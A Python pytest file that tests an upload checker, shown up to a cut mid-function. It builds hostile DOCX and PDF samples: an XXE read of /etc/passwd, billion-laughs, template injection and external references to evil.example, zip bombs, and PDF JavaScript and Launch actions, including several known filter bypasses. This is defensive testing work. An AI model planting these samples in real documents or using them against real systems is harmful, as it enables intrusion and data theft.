"""Security tests of the upload check (R17): `check_file` accepts a clean DOCX or PDF and
refuses everything hostile or broken with a FileRefused carrying the expected code — never
another exception, never a hang.

Every hostile file is generated here (python-docx, zipfile, pypdf, raw bytes); no binary
fixture is committed. No database is needed.
"""

import io
import re
import shutil
import statistics
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest
from docx import Document
from docx.enum.text import WD_BREAK
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from plenary.contributions.filecheck import (
    MAX_PART_BYTES,
    MAX_UNZIPPED_BYTES,
    MAX_ZIP_ENTRIES,
    CheckedFile,
    FileRefused,
    check_file,
    check_upload,
)

SOFFICE = shutil.which("soffice")
SECONDS_PER_CHECK = 5.0
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
# What the raw-bytes regex of filecheck looks for: the "hidden" PDFs below must not show it.
RAW_ACTIVE = re.compile(rb"/(JavaScript|JS|Launch|EmbeddedFiles?|RichMedia|XFA)\b")


# --- builders ---------------------------------------------------------------------------------


def _docx(paragraphs=("Contribution of a Member State.",), page_breaks=False, hyperlink=None):
    document = Document()
    for index, text in enumerate(paragraphs):
        document.add_paragraph(text)
        if page_breaks and index < len(paragraphs) - 1:
            document.add_paragraph().add_run().add_break(WD_BREAK.PAGE)
    if hyperlink:
        document.part.relate_to(hyperlink, RT.HYPERLINK, is_external=True)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _rezip(base: bytes, replace=None, add=None, drop=()) -> bytes:
    """A copy of the zip `base` with some parts replaced, added or dropped (valid CRCs)."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def _part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{PKG_RELS}">{"".join(relationships)}</Relationships>'
    ).encode()


def _add_relationship(base: bytes, rels_name: str, relationship: str) -> bytes:
    """Add a relationship to an existing .rels part of `base`, or create the part."""
    names = zipfile.ZipFile(io.BytesIO(base)).namelist()
    if rels_name in names:
        content = _part(base, rels_name).replace(
            b"</Relationships>", relationship.encode() + b"</Relationships>"
        )
        return _rezip(base, replace={rels_name: content})
    return _rezip(base, add={rels_name: _rels(relationship)})


def _with_doctype(base: bytes, doctype: bytes, body_text: bytes | None = None) -> bytes:
    document = _part(base, "word/document.xml")
    cut = document.index(b"?>") + 2
    document = document[:cut] + b"\n" + doctype + document[cut:]
    if body_text is not None:
        document = document.replace(b">" + FIRST_TEXT + b"<", b">" + body_text + b"<", 1)
    return _rezip(base, replace={"word/document.xml": document})


def _utf16(xml: bytes) -> bytes:
    """The same XML, declared and encoded as UTF-16 (with a byte-order mark)."""
    text = xml.decode("utf-8")
    text = re.sub(r"encoding=(['\"])UTF-8\1", 'encoding="UTF-16"', text, count=1)
    return text.encode("utf-16")


def _zip_with_zeros(entries: dict[str, bytes], zeros_name: str, megabytes: int) -> bytes:
    """A zip holding `entries` plus one deflated entry of zeros, written chunk by chunk so
    that the test never holds the uncompressed data."""
    out = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        with archive.open(zeros_name, "w") as stream:
            for _ in range(megabytes):
                stream.write(chunk)
    return out.getvalue()


def _central_directory(data: bytes):
    """(offset of each central entry, offset of its local header) by walking the zip's own
    end-of-central-directory record (the zips built here have no comment)."""
    end = len(data) - 22
    assert data[end : end + 4] == b"PK\x05\x06"
    count, _size, offset = struct.unpack_from("<HII", data, end + 10)
    for _ in range(count):
        assert data[offset : offset + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, offset + 28)
        (local,) = struct.unpack_from("<I", data, offset + 42)
        yield offset, local
        offset += 46 + name_len + extra_len + comment_len


def _set_encrypted_flag(data: bytes) -> bytes:
    """Set general-purpose bit 0 ("encrypted") in every local and central header."""
    patched = bytearray(data)
    for central, local in _central_directory(data):
        patched[central + 8] |= 0x01
        patched[local + 6] |= 0x01
    return bytes(patched)


def _lie_about_size(data: bytes, name: str, size: int) -> bytes:
    """Declare `size` as the uncompressed size of entry `name` in both headers."""
    patched = bytearray(data)
    for central, local in _central_directory(data):
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name.encode():
            struct.pack_into("<I", patched, central + 24, size)
            struct.pack_into("<I", patched, local + 22, size)
    return bytes(patched)


def _pdf(pages=2, edit: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if edit:
        edit(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = TextStringObject(value)
    return action


def _open_action_js(writer: PdfWriter) -> None:
    writer.root_object[_name("/OpenAction")] = _action("/JavaScript", JS="app.alert(1)")


def _names_js(writer: PdfWriter) -> None:
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="1")])}
    )
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})


def _open_action_launch(writer: PdfWriter) -> None:
    writer.root_object[_name("/OpenAction")] = _action("/Launch", F="cmd.exe")


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def _encrypt(writer: PdfWriter) -> None:
    writer.encrypt("secret")


def _launch_annotation(writer: PdfWriter) -> None:
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595), FloatObject(842)])
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): rect,
            _name("/A"): _action("/Launch", F="cmd.exe"),
        }
    )
    writer.add_annotation(0, annotation)


def _raw_pdf(objects: dict[int, bytes], packed=()) -> bytes:
    """A hand-made PDF 1.7: object 1 is the catalog; the objects numbered in `packed` go
    into one deflated object stream, and the cross-reference is a deflated xref stream — so
    nothing that is packed shows in the raw bytes."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries: dict[int, tuple[int, int, int]] = {}
    size = max(objects) + 1
    for number in sorted(set(objects) - set(packed)):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    if packed:
        stream_number, size = size, size + 1
        pairs, bodies = [], b""
        for index, number in enumerate(sorted(packed)):
            pairs.append(b"%d %d" % (number, len(bodies)))
            bodies += objects[number] + b"\n"
            entries[number] = (2, stream_number, index)
        header = b" ".join(pairs) + b"\n"
        raw = zlib.compress(header + bodies)
        entries[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (
            stream_number,
            len(packed),
            len(header),
            len(raw),
        )
        out += b"\nstream\n" + raw + b"\nendstream\nendobj\n"
    xref_number, size = size, size + 1
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([kind]) + first.to_bytes(4, "big") + second.to_bytes(2, "big")
        for kind, first, second in (entries.get(n, (0, 0, 0)) for n in range(size))
    )
    raw = zlib.compress(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number, size)
    out += b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(raw)
    out += raw + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE_TREE = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}
ANNOTATED_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ALL = frozenset(range(1, 10))


def _hidden_pdf(objects: dict[int, bytes]) -> bytes:
    """Every object packed in a compressed object stream; the regex cannot see anything."""
    data = _raw_pdf(objects, packed=set(objects))
    assert not RAW_ACTIVE.search(data)
    return data


# --- seeds (built once) -----------------------------------------------------------------------

DOCX_SEED = _docx(("Hello",))
FIRST_TEXT = b"Hello"
PDF_SEED = _pdf(2)
PDF_HIDDEN_SEED = _raw_pdf({1: CATALOG, **PAGE_TREE}, packed={1, 2, 3})
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\nIDATx\x9cc\x00\x01\x00\x00\x05\x00\x01\r\n-\xb4\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _refusal(data: bytes, **kwargs) -> str:
    """The code of the refusal; fails, saying what was accepted, when there is none."""
    try:
        checked = check_file(data, **({"libreoffice": ""} | kwargs))
    except FileRefused as refused:
        assert str(refused.user_message())  # a message in the reader's language
        return refused.code
    pytest.fail(f"ACCEPTED as {checked.kind} of {checked.pages} page(s) ({len(data)} bytes)")


# --- the hostile corpus -----------------------------------------------------------------------


def _billion_laughs() -> bytes:
    entities = [b'<!ENTITY lol0 "lol">'] + [
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)
    ]
    doctype = b"<!DOCTYPE w:document [" + b"".join(entities) + b"]>"
    return _with_doctype(DOCX_SEED, doctype, body_text=b"&lol9;")


def _xxe() -> bytes:
    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _with_doctype(DOCX_SEED, doctype, body_text=b"&xxe;")


def _external(rels_name: str, kind: str, target: str) -> Callable[[], bytes]:
    relationship = (
        f'<Relationship Id="rIdEvil" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    return lambda: _add_relationship(DOCX_SEED, rels_name, relationship)


def _template_injection(relationship: str, encode=lambda xml: xml) -> bytes:
    """Template injection as Word performs it: settings.xml names an attached template whose
    relationship points outside the package."""
    settings_xml = _part(DOCX_SEED, "word/settings.xml")
    assert b"<w:proofState " in settings_xml
    settings_xml = re.sub(
        rb"(<w:proofState [^>]*/>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', settings_xml
    )
    return _rezip(
        DOCX_SEED,
        replace={"word/settings.xml": settings_xml},
        add={"word/_rels/settings.xml.rels": encode(_rels(relationship))},
    )


def _docm() -> bytes:
    types = _part(DOCX_SEED, "[Content_Types].xml").replace(
        DOCX_MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return _rezip(DOCX_SEED, replace={"[Content_Types].xml": types})


def _too_many_entries() -> bytes:
    extra = {f"word/media/part{i}.xml": b"<a/>" for i in range(MAX_ZIP_ENTRIES + 1)}
    return _rezip(DOCX_SEED, add=extra)


def _zip_without_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "not a document")
        archive.writestr("data/values.csv", "a,b\n1,2\n")
    return out.getvalue()


def _xlsx_like() -> bytes:
    types = _part(DOCX_SEED, "[Content_Types].xml").replace(
        DOCX_MAIN, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )
    return _rezip(DOCX_SEED, replace={"[Content_Types].xml": types})


def _lying_size_bomb() -> bytes:
    """40 MB of zeros whose headers declare 1,000 bytes: every declared figure is small."""
    data = _zip_with_zeros(_docx_parts(), "word/media/bomb.xml", 40)
    return _lie_about_size(data, "word/media/bomb.xml", 1000)


def _docx_parts() -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(DOCX_SEED))
    return {name: archive.read(name) for name in archive.namelist()}


CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    # not a DOCX nor a PDF, whatever the file is called
    "empty": (lambda: b"", "empty"),
    "plain_text": (lambda: b"Contribution of the Member State\n", "not_docx_or_pdf"),
    "exe_mz_header": (lambda: EXE, "not_docx_or_pdf"),
    "png": (lambda: PNG, "not_docx_or_pdf"),
    "jpeg": (lambda: JPEG, "not_docx_or_pdf"),
    "html_named_pdf": (
        lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "not_docx_or_pdf",
    ),
    "ole2_doc": (lambda: OLE2, "not_docx_or_pdf"),
    "rtf": (lambda: b"{\\rtf1\\ansi Contribution}", "not_docx_or_pdf"),
    "pdf_header_not_at_start": (lambda: b" \n" + PDF_SEED, "not_docx_or_pdf"),
    # DOCX: macros
    "docm_content_type": (_docm, "macros"),
    "docx_with_vbaproject_bin": (
        lambda: _rezip(DOCX_SEED, add={"word/vbaProject.bin": OLE2}),
        "macros",
    ),
    "docx_with_vbadata_xml": (
        lambda: _rezip(DOCX_SEED, add={"word/vbaData.xml": b"<wne:vbaSuppData/>"}),
        "macros",
    ),
    # DOCX: XML declarations
    "docx_xxe_external_entity": (_xxe, "xml_entities"),
    "docx_billion_laughs": (_billion_laughs, "xml_entities"),
    "docx_doctype_in_rels": (
        lambda: _rezip(
            DOCX_SEED,
            replace={
                "_rels/.rels": _part(DOCX_SEED, "_rels/.rels").replace(
                    b"?>", b'?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/">]>', 1
                )
            },
        ),
        "xml_entities",
    ),
    # DOCX: external references (template injection, OLE, frames, linked images)
    "docx_external_attached_template": (
        lambda: _template_injection(
            f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate"'
            ' Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ),
        "external_reference",
    ),
    "docx_external_ole_object": (
        _external("word/_rels/document.xml.rels", "oleObject", "file://evil.example/share/o.bin"),
        "external_reference",
    ),
    "docx_external_frame": (
        _external("word/_rels/webSettings.xml.rels", "frame", "https://evil.example/frame.html"),
        "external_reference",
    ),
    "docx_external_linked_image": (
        _external("word/_rels/document.xml.rels", "image", "\\\\evil.example\\share\\a.png"),
        "external_reference",
    ),
    # DOCX: zip bombs and broken zips
    "zip_bomb_200mb_one_entry": (
        lambda: _zip_with_zeros(_docx_parts(), "word/media/bomb.bin", 200),
        "zip_bomb",
    ),
    "zip_ratio_bomb_under_declared_limit": (
        lambda: _zip_with_zeros(_docx_parts(), "word/media/bomb.bin", 30),
        "zip_bomb",
    ),
    "zip_too_many_entries": (_too_many_entries, "zip_bomb"),
    "zip_lying_uncompressed_size": (_lying_size_bomb, "corrupt"),
    "docx_truncated_half": (lambda: DOCX_SEED[: len(DOCX_SEED) // 2], "corrupt"),
    "zip_not_a_docx": (_zip_without_document, "not_docx_or_pdf"),
    "zip_xlsx_content_type": (_xlsx_like, "not_docx_or_pdf"),
    "docx_encrypted_entries": (lambda: _set_encrypted_flag(DOCX_SEED), "encrypted"),
    "docx_document_not_xml": (
        lambda: _rezip(DOCX_SEED, replace={"word/document.xml": b"\x00\x01 not xml <"}),
        "corrupt",
    ),
    # PDF: active content visible in the raw bytes
    "pdf_open_action_javascript": (lambda: _pdf(1, _open_action_js), "pdf_active_content"),
    "pdf_names_javascript": (lambda: _pdf(1, _names_js), "pdf_active_content"),
    "pdf_open_action_launch": (lambda: _pdf(1, _open_action_launch), "pdf_active_content"),
    "pdf_embedded_file": (lambda: _pdf(1, _attachment), "pdf_active_content"),
    "pdf_annotation_launch": (lambda: _pdf(1, _launch_annotation), "pdf_active_content"),
    "pdf_annotation_additional_action_js_plain": (
        lambda: _raw_pdf(
            {
                1: CATALOG,
                2: PAGE_TREE[2],
                3: ANNOTATED_PAGE,
                4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /AA << /E 5 0 R >> >>",
                5: JS_ACTION,
            }
        ),
        "pdf_active_content",
    ),
    # PDF: active content hidden in a compressed object stream (found through the structure)
    "pdf_objstm_open_action_javascript": (
        lambda: _hidden_pdf(
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **PAGE_TREE, 4: JS_ACTION}
        ),
        "pdf_active_content",
    ),
    "pdf_objstm_names_javascript": (
        lambda: _hidden_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
                **PAGE_TREE,
                4: b"<< /Names [(x) 5 0 R] >>",
                5: JS_ACTION,
            }
        ),
        "pdf_active_content",
    ),
    "pdf_objstm_annotation_launch": (
        lambda: _hidden_pdf(
            {
                1: CATALOG,
                2: PAGE_TREE[2],
                3: ANNOTATED_PAGE,
                4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>",
            }
        ),
        "pdf_active_content",
    ),
    "pdf_objstm_page_additional_action": (
        lambda: _hidden_pdf(
            {
                1: CATALOG,
                2: PAGE_TREE[2],
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
                4: JS_ACTION,
            }
        ),
        "pdf_active_content",
    ),
    "pdf_objstm_xfa_form": (
        lambda: _hidden_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [] >> >>",
                **PAGE_TREE,
            }
        ),
        "pdf_active_content",
    ),
    # PDF: encrypted, broken
    "pdf_encrypted": (lambda: _pdf(1, _encrypt), "encrypted"),
    "pdf_truncated_half": (lambda: PDF_SEED[: len(PDF_SEED) // 2], "corrupt"),
    "pdf_header_then_garbage": (
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
        "corrupt",
    ),
    "pdf_without_pages": (
        lambda: _raw_pdf({1: CATALOG, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "corrupt",
    ),
    "pdf_page_tree_cycle": (
        lambda: _raw_pdf(
            {1: CATALOG, 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>", 3: PAGE_TREE[3]}
        ),
        "corrupt",
    ),
}


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 25


@pytest.mark.parametrize(("name", "expected"), [(n, code) for n, (_, code) in CORPUS.items()])
def test_hostile_file_is_refused(name, expected):
    data = CORPUS[name][0]()
    started = time.perf_counter()
    assert _refusal(data) == expected
    assert time.perf_counter() - started < SECONDS_PER_CHECK


def test_file_over_max_bytes_is_refused_before_anything_else():
    assert len(PDF_SEED) > 500
    assert _refusal(PDF_SEED, max_bytes=500) == "too_large"
    assert _refusal(DOCX_SEED, max_bytes=1000) == "too_large"


def _peak_memory_of_check(data: bytes) -> tuple[str, int]:
    tracemalloc.start()
    try:
        try:
            check_file(data, libreoffice="")
            code = "accepted"
        except FileRefused as refused:
            code = refused.code
        return code, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_zip_bombs_are_refused_with_little_memory():
    bomb = _zip_with_zeros(_docx_parts(), "word/document.bin", 200)  # ~200 KB on disk
    code, peak = _peak_memory_of_check(bomb)
    print(f"\n[zip bomb] {len(bomb)} bytes -> 200 MB of zeros: {code}, peak {peak / 1e6:.2f} MB")
    assert code == "zip_bomb"
    assert peak < 16 * 1024 * 1024

    liar = _lying_size_bomb()  # 40 MB of zeros, declared as 1,000 bytes
    code, peak = _peak_memory_of_check(liar)
    print(f"[lying zip] {len(liar)} bytes -> 40 MB declared 1 KB: {code}, peak {peak / 1e6:.2f} MB")
    assert code == "corrupt"
    assert peak < 3 * MAX_PART_BYTES

    assert MAX_UNZIPPED_BYTES < 200 * 1024 * 1024


# --- what must be accepted --------------------------------------------------------------------


def test_clean_docx_is_accepted_with_an_estimate():
    checked = check_file(DOCX_SEED, libreoffice="")
    assert checked == CheckedFile("docx", 1, True, len(DOCX_SEED), "Hello")


def test_docx_pages_are_taken_from_app_xml_when_estimated():
    app = _part(DOCX_SEED, "docProps/app.xml")
    assert b"<Pages>1</Pages>" in app
    data = _rezip(
        DOCX_SEED,
        replace={"docProps/app.xml": app.replace(b"<Pages>1</Pages>", b"<Pages>3</Pages>")},
    )
    checked = check_file(data, libreoffice="")
    assert (checked.kind, checked.pages, checked.estimated) == ("docx", 3, True)


def test_docx_pages_are_estimated_from_words_without_app_xml():
    words = " ".join(["word"] * 1200)
    data = _rezip(_docx((words,)), drop={"docProps/app.xml"})
    checked = check_file(data, libreoffice="")
    assert (checked.kind, checked.pages, checked.estimated) == ("docx", 3, True)


def test_docx_estimate_counts_explicit_page_breaks_and_words_over_a_stale_app_xml():
    breaks = _docx(("First page.", "Second page.", "Third page."), page_breaks=True)
    assert b"<Pages>1</Pages>" in _part(breaks, "docProps/app.xml")  # stale, as Word leaves it
    checked = check_file(breaks, libreoffice="")
    assert (checked.kind, checked.pages, checked.estimated) == ("docx", 3, True)
    words = _docx((" ".join(["word"] * 1200),))
    assert check_file(words, libreoffice="").pages == 3


def test_clean_two_page_pdf_is_counted_exactly():
    checked = check_file(PDF_SEED, libreoffice="")
    assert checked == CheckedFile("pdf", 2, False, len(PDF_SEED))


def test_clean_pdf_with_object_streams_is_accepted():
    checked = check_file(PDF_HIDDEN_SEED, libreoffice="")
    assert (checked.kind, checked.pages, checked.estimated) == ("pdf", 1, False)


def test_content_decides_not_the_name():
    upload = {"name": "contribution.docx", "data": PDF_SEED}  # a PDF called .docx
    assert check_file(upload["data"], libreoffice="").kind == "pdf"
    upload = {"name": "contribution.pdf", "data": b"<html><body>Hi</body></html>"}
    assert _refusal(upload["data"]) == "not_docx_or_pdf"


def test_docx_with_external_hyperlink_is_accepted():
    data = _docx(("See the annex online.",), hyperlink="https://example.org/annex")
    rels = _part(data, "word/_rels/document.xml.rels")
    assert b'TargetMode="External"' in rels and b"relationships/hyperlink" in rels
    checked = check_file(data, libreoffice="")
    assert (checked.kind, checked.pages) == ("docx", 1)


@pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice (soffice) is not installed: no exact DOCX page count"
)
def test_docx_pages_are_counted_exactly_with_libreoffice():
    data = _docx(("First page.", "Second page.", "Third page."), page_breaks=True)
    checked = check_file(data, libreoffice=SOFFICE)
    assert (checked.kind, checked.pages, checked.estimated) == ("docx", 3, False)


def test_checking_a_two_page_file_is_fast():
    two_pages_docx = _docx(("First page.", "Second page."), page_breaks=True)
    for label, data in (("pdf", PDF_SEED), ("docx", two_pages_docx)):
        durations = []
        for _ in range(20):
            started = time.perf_counter()
            check_file(data, libreoffice="")
            durations.append(time.perf_counter() - started)
        p50 = statistics.median(durations)
        print(f"\n[timing] 2-page {label}, libreoffice='': p50 {p50 * 1000:.2f} ms")
        assert p50 < 0.5


# --- bugs: hostile files that get through (these tests fail until filecheck is fixed) ---------

TEMPLATE = f"{REL}/attachedTemplate"
DOCX_BYPASSES: dict[str, tuple[Callable[[], bytes], str]] = {
    # the hyperlink exemption looks for "relationships/hyperlink" anywhere in the element
    "external_template_target_mentions_hyperlink": (
        lambda: _template_injection(
            f'<Relationship Id="rIdT" Type="{TEMPLATE}" '
            'Target="https://evil.example/relationships/hyperlink/t.dotm" TargetMode="External"/>'
        ),
        "external_reference",
    ),
    # &#69; is "E" to any XML parser, not to the regex
    "external_template_targetmode_character_reference": (
        lambda: _template_injection(
            f'<Relationship Id="rIdT" Type="{TEMPLATE}" '
            'Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
        ),
        "external_reference",
    ),
    # ">" is legal inside an attribute value and ends the regex's <Relationship ...> match
    "external_template_gt_in_attribute": (
        lambda: _template_injection(
            '<Relationship Id="rIdT" Target="https://evil.example/t.dotm?a=>" '
            f'TargetMode="External" Type="{TEMPLATE}"/>'
        ),
        "external_reference",
    ),
    # UTF-16 parts: the byte regexes never match
    "external_template_utf16_rels": (
        lambda: _template_injection(
            f'<Relationship Id="rIdT" Type="{TEMPLATE}" '
            'Target="https://evil.example/t.dotm" TargetMode="External"/>',
            encode=_utf16,
        ),
        "xml_entities",  # refused for its encoding, before the relationship is read
    ),
    "xxe_utf16_document": (
        lambda: _rezip(
            DOCX_SEED, replace={"word/document.xml": _utf16(_part(_xxe(), "word/document.xml"))}
        ),
        "xml_entities",
    ),
    # a macro-enabled main part and a VBA project whose content types are spelt with
    # character references; the plain DOCX type stands in an unused Default
    "docm_content_types_character_references": (
        lambda: _rezip(
            DOCX_SEED,
            replace={
                "[Content_Types].xml": _part(DOCX_SEED, "[Content_Types].xml")
                .replace(DOCX_MAIN, b"application/vnd.ms-word.document.macroEnabled&#46;main+xml")
                .replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'
                    b'<Default Extension="unused" ContentType="' + DOCX_MAIN + b'"/></Types>',
                ),
                "word/_rels/document.xml.rels": _part(
                    DOCX_SEED, "word/_rels/document.xml.rels"
                ).replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/vbaProject" Target="macros.bin"/></Relationships>',
                ),
            },
            add={"word/macros.bin": OLE2},
        ),
        "embedded_objects",  # the OLE2 part is refused before the content types are read
    ),
}


@pytest.mark.parametrize(("name", "expected"), [(n, c) for n, (_, c) in DOCX_BYPASSES.items()])
def test_docx_bypass_is_refused(name, expected):
    assert _refusal(DOCX_BYPASSES[name][0]()) == expected


def test_utf16_billion_laughs_is_refused_anyway():
    """The declaration regex misses it too, but libxml2's amplification guard refuses it."""
    document = _utf16(_part(_billion_laughs(), "word/document.xml"))
    assert _refusal(_rezip(DOCX_SEED, replace={"word/document.xml": document})) in {
        "xml_entities",
        "corrupt",
    }


PDF_BYPASSES: dict[str, Callable[[], bytes]] = {
    # JavaScript run after a harmless GoTo open action (/Next chain)
    "open_action_next_chain": lambda: _hidden_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            **PAGE_TREE,
            4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            5: JS_ACTION,
        }
    ),
    # a page-sized link whose additional action (/AA /E, cursor enters) is JavaScript
    "annotation_additional_action": lambda: _hidden_pdf(
        {
            1: CATALOG,
            2: PAGE_TREE[2],
            3: ANNOTATED_PAGE,
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /AA << /E 5 0 R >> >>",
            5: JS_ACTION,
        }
    ),
    # a bookmark whose action is JavaScript
    "outline_item_action": lambda: _hidden_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R /PageMode /UseOutlines >>",
            **PAGE_TREE,
            4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            5: b"<< /Title (Open me) /Parent 4 0 R /A 6 0 R >>",
            6: JS_ACTION,
        }
    ),
    # a form field whose focus action is JavaScript
    "form_field_additional_action": lambda: _hidden_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            2: PAGE_TREE[2],
            3: ANNOTATED_PAGE,
            4: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 595 842] /P 3 0 R"
            b" /AA << /Fo 5 0 R >> >>",
            5: JS_ACTION,
        }
    ),
    # no object stream at all: names written with #xx escapes (PDF 1.2+) defeat the regex
    "escaped_names_uncompressed": lambda: _raw_pdf(
        {
            1: CATALOG,
            2: PAGE_TREE[2],
            3: ANNOTATED_PAGE,
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /AA << /E << /S /Java#53cript /J#53 (app.alert\\(1\\)) >> >> >>",
        }
    ),
}


@pytest.mark.parametrize("name", list(PDF_BYPASSES))
def test_pdf_hidden_javascript_is_refused(name):
    data = PDF_BYPASSES[name]()
    assert not RAW_ACTIVE.search(data)
    assert _refusal(data) == "pdf_active_content"


_CHILD = """
import resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from plenary.contributions.filecheck import FileRefused, check_file
data = sys.stdin.buffer.read()
started = time.perf_counter()
try:
    result = "accepted %d pages" % check_file(data, libreoffice="").pages
except FileRefused as refused:
    result = "refused " + refused.code
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
print("%s in %.1f s, max RSS %d MB" % (result, time.perf_counter() - started, peak))
"""


def _object_stream_bomb_pdf(streams: int, megabytes: int) -> bytes:
    """`streams` pages, each alone in an object stream padded with `megabytes` MB of NUL
    bytes (PDF white space): ~68 KB per stream in the file."""
    raw_zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
